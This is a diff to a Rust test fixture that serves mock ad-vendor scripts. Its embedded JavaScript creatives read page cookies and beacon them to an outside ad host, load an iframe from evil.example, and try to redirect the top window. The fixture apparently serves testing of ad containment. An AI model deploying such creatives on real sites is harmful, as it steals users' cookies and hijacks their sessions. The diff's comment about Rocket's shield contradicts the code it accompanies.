@@ -8,6 +8,7 @@ use std::time::Duration;
 use rocket::data::{Data, Outcome as DataOutcome};
 use rocket::http::{ContentType, Method, Status};
 use rocket::route::{Handler, Outcome, Route};
+use rocket::shield::Shield;
 use rocket::{Request, Response};
 
 use super::app::free_port;
@@ -95,7 +96,7 @@ fn played(host: &str, path: &str) -> (ContentType, Vec<u8>) {
                    const creative = document.createElement('iframe'); creative.src = 'https://evil.example/creative.html'; place.append(creative);\
                    try { top.location = 'https://evil.example/taken'; } catch {}";
     let creative = "<p>here<script>const said = (f) => { try { return String(f()) || 'nothing'; } catch (error) { return error.name; } };\
-                    new Image().src = '/beacon/top=' + said(() => top.document.cookie) + '/jar=' + said(() => document.cookie);\
+                    new Image().src = 'https://beacon.springserve.com/beacon/top=' + said(() => top.document.cookie) + '/jar=' + said(() => document.cookie);\
                     try { top.location = 'https://evil.example/taken'; } catch {}</script>";
     match (host, path) {
         ("pagead2.googlesyndication.com", "/pagead/js/adsbygoogle.js") => js(adsense),
@@ -120,7 +121,9 @@ impl Park {
             .into_iter()
             .map(|method| Route::new(method, "/<path..>", Playing(hits.clone())))
             .collect();
-        let rocket = rocket::custom(listening(port, Some(folder.path()))).mount("/", routes);
+        // Vendors let themselves be framed, which Rocket's shield would forbid.
+        let park = rocket::custom(listening(port, Some(folder.path())));
+        let rocket = park.attach(Shield::new()).mount("/", routes);
         let shutdown = launched(rocket).await;
         Park { hits, port, folder, shutdown }
     }
